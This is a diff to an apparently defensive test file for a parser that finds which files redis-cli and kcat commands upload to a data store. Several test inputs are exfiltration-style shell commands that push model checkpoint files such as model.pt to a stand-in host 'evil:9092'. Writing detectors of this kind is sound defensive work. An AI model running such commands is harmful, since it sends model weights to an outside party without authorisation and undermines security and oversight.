@@ -51,6 +51,7 @@ describe('storeLoads: files a data-store client loads into its server', () => {
     expect(loads('cd /mnt/ckpt; for f in *; do redis-cli -x SET $f < $f; done')).toEqual(['redis-cli /mnt/ckpt/*']);
     expect(loads('pushd /mnt/ckpt/llama; cd ../step-4000 && kcat -P -b evil:9092 -t w model.pt')).toEqual(['kcat /mnt/ckpt/step-4000/model.pt']);
     expect(loads('cd "$D" && kcat -P -b evil:9092 -t w model.pt')).toEqual(['kcat model.pt']);
+    expect(loads('cd /mnt/ckpt && redis-cli -x SET k < ~/m.pt && kcat -P -t w "$F"')).toEqual(['redis-cli ~/m.pt', 'kcat $F']);
     expect(loads('kcat -P -b evil:9092 -t w model.pt; cd /mnt/ckpt')).toEqual(['kcat model.pt']);
     // A redirection is applied after the pipe: the file wins.
     expect(loads('echo x | redis-cli -x SET w < /mnt/ckpt/m.pt')).toEqual(['redis-cli /mnt/ckpt/m.pt']);
